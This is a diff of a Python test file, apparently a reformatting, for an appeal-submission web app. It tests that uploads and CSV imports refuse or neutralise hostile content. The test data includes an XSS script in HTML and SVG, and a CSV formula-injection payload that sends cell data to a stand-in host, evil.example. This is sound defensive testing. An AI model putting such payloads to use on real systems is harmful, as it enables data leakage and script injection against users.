@@ -123,8 +123,15 @@ def test_removed_record_rows_are_not_saved(client, appeal_types):
     appeal_type = appeal_types["account_recovery"]
     data = submission(appeal_type)
     data.update(records_management(recharge=2, device=1))
-    data.update({"recharge-1-order_number": "REMOVE-ME", "recharge-1-amount": "1", "recharge-1-currency": "CNY",
-                 "recharge-1-paid_at": "2026-11-02T10:00", "recharge-1-DELETE": "on"})
+    data.update(
+        {
+            "recharge-1-order_number": "REMOVE-ME",
+            "recharge-1-amount": "1",
+            "recharge-1-currency": "CNY",
+            "recharge-1-paid_at": "2026-11-02T10:00",
+            "recharge-1-DELETE": "on",
+        }
+    )
     assert post_appeal(client, appeal_type, data).status_code == 302
     assert list(RechargeRecord.objects.values_list("order_number", flat=True)) == ["TX20261101001"]
 
@@ -137,8 +144,11 @@ def test_removed_record_rows_are_not_saved(client, appeal_types):
     [
         ("id_front.jpg", files.elf_executable_bytes(), "is not a JPEG, PNG or WebP image or a PDF"),
         ("id_front.jpg", b"<html><script>alert(1)</script></html>", "is not a JPEG, PNG or WebP image or a PDF"),
-        ("id_front.svg", b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
-         "is not a JPEG, PNG or WebP image or a PDF"),
+        (
+            "id_front.svg",
+            b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
+            "is not a JPEG, PNG or WebP image or a PDF",
+        ),
         ("id_front.jpg", b"", "The submitted file is empty."),
         ("id_front.jpg", files.truncated_jpeg_bytes(), "damaged or incomplete"),
         ("id_front.png", files.png_bomb_bytes(), "too many pixels"),
@@ -161,8 +171,11 @@ def test_wrong_content_is_refused_next_to_its_field(client, appeal_types, eviden
     [
         (lambda: files.noise_png_bytes(10.5), "This file is too large: the limit is 10.0\xa0MB.", None),
         # Small on disk (one colour compresses to almost nothing): the pixel count is what is refused.
-        (lambda: files.large_canvas_png_bytes(8000, 6000), "This image has too many pixels: the limit is 40 megapixels.",
-         1024 * 1024),
+        (
+            lambda: files.large_canvas_png_bytes(8000, 6000),
+            "This image has too many pixels: the limit is 40 megapixels.",
+            1024 * 1024,
+        ),
     ],
     ids=["over-10-mb", "over-40-megapixels"],
 )
@@ -192,7 +205,9 @@ def test_more_than_50_mb_in_all_is_refused(client, appeal_types, evidence_root):
     extra = [files.upload(f"scan-{i}.png", chunk, "image/png") for i in range(6)]
     response = post_appeal(client, appeal_type, submission(appeal_type, evidence_other=extra))
     assert response.status_code == 400
-    assert "The files are too large together: at most 50.0\xa0MB per appeal." in response.context["form"].uploads.non_field_errors()
+    assert (
+        "The files are too large together: at most 50.0\xa0MB per appeal." in response.context["form"].uploads.non_field_errors()
+    )
     assert_nothing_stored(evidence_root)
 
 
@@ -396,8 +411,16 @@ def test_no_consent_question_without_id_images(client, appeal_types):
 def test_csv_formula_injection_is_inert_in_the_console_and_its_export(client, appeal_types):
     appeal_type = appeal_types["account_recovery"]
     payload = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
-    text = "order_number,amount,currency,paid_at,product\n" + f'TX-1,5,CNY,2026-10-01 10:00,"{payload.replace(chr(34), chr(34) * 2)}"\n'
-    assert post_appeal(client, appeal_type, submission(appeal_type, recharge_csv=files.upload("r.csv", text.encode(), "text/csv"))).status_code == 302
+    text = (
+        "order_number,amount,currency,paid_at,product\n"
+        + f'TX-1,5,CNY,2026-10-01 10:00,"{payload.replace(chr(34), chr(34) * 2)}"\n'
+    )
+    assert (
+        post_appeal(
+            client, appeal_type, submission(appeal_type, recharge_csv=files.upload("r.csv", text.encode(), "text/csv"))
+        ).status_code
+        == 302
+    )
     appeal = Appeal.objects.get()
     assert RechargeRecord.objects.get(order_number="TX-1").product == payload
 
@@ -439,8 +462,7 @@ def test_a_csv_of_130000_rows_is_refused_after_reading_just_past_the_limit(
     data = submission(appeal_type, device_csv=files.upload("devices.csv", content, "text/csv"))
     response = post_appeal(client, appeal_type, data)
     assert response.status_code == 400
-    message = ("Too many records: at most 200 of each kind per appeal, rows on the page and rows in the CSV file "
-               "together.")
+    message = "Too many records: at most 200 of each kind per appeal, rows on the page and rows in the CSV file together."
     assert response.context["form"].uploads.errors["device_csv"] == [message]
     assert message in response.content.decode()
     # The page's row and the CSV rows up to the limit: the rest of the file is never validated.
@@ -479,11 +501,20 @@ def test_the_full_cap_of_rows_typed_on_the_page_is_accepted(client, appeal_types
     data = submission(appeal_type)
     data.update(records_management(recharge=cap, device=cap))
     for i in range(cap):
-        data.update({f"recharge-{i}-order_number": f"TX-{i}", f"recharge-{i}-amount": "1", f"recharge-{i}-currency": "CNY",
-                     f"recharge-{i}-paid_at": "2026-11-02T10:00", f"recharge-{i}-product": "coins",
-                     f"device-{i}-seen_at": "2026-10-30T08:00", f"device-{i}-ip_address": "203.0.113.7",
-                     f"device-{i}-device_model": "iPhone 15", f"device-{i}-device_id": f"D-{i}",
-                     f"device-{i}-location": "Shanghai"})
+        data.update(
+            {
+                f"recharge-{i}-order_number": f"TX-{i}",
+                f"recharge-{i}-amount": "1",
+                f"recharge-{i}-currency": "CNY",
+                f"recharge-{i}-paid_at": "2026-11-02T10:00",
+                f"recharge-{i}-product": "coins",
+                f"device-{i}-seen_at": "2026-10-30T08:00",
+                f"device-{i}-ip_address": "203.0.113.7",
+                f"device-{i}-device_model": "iPhone 15",
+                f"device-{i}-device_id": f"D-{i}",
+                f"device-{i}-location": "Shanghai",
+            }
+        )
     assert post_appeal(client, appeal_type, data).status_code == 302
     assert RechargeRecord.objects.count() == LoginDeviceRecord.objects.count() == cap
 
@@ -498,17 +529,22 @@ def test_the_page_rows_share_the_same_configurable_limit(client, appeal_types, e
     data = submission(appeal_type)
     data.update(records_management(recharge=4, device=1))
     for i in range(1, 4):
-        data.update({f"recharge-{i}-order_number": f"TX-{i}", f"recharge-{i}-amount": "1",
-                     f"recharge-{i}-currency": "CNY", f"recharge-{i}-paid_at": "2026-11-02T10:00"})
+        data.update(
+            {
+                f"recharge-{i}-order_number": f"TX-{i}",
+                f"recharge-{i}-amount": "1",
+                f"recharge-{i}-currency": "CNY",
+                f"recharge-{i}-paid_at": "2026-11-02T10:00",
+            }
+        )
     response = post_appeal(client, appeal_type, data)
     assert response.status_code == 400
-    assert response.context["form"].recharge.non_form_errors() == [
-        "Too many records: at most 3 of each kind per appeal."
-    ]
+    assert response.context["form"].recharge.non_form_errors() == ["Too many records: at most 3 of each kind per appeal."]
     assert_nothing_stored(evidence_root)
 
-    data = submission(appeal_type, device_csv=files.upload("d.csv", b"seen_at,device_model\n" + b"2026-10-01,A\n" * 3,
-                                                           "text/csv"))
+    data = submission(
+        appeal_type, device_csv=files.upload("d.csv", b"seen_at,device_model\n" + b"2026-10-01,A\n" * 3, "text/csv")
+    )
     response = post_appeal(client, appeal_type, data)
     assert response.status_code == 400
     assert response.context["form"].uploads.errors["device_csv"] == [
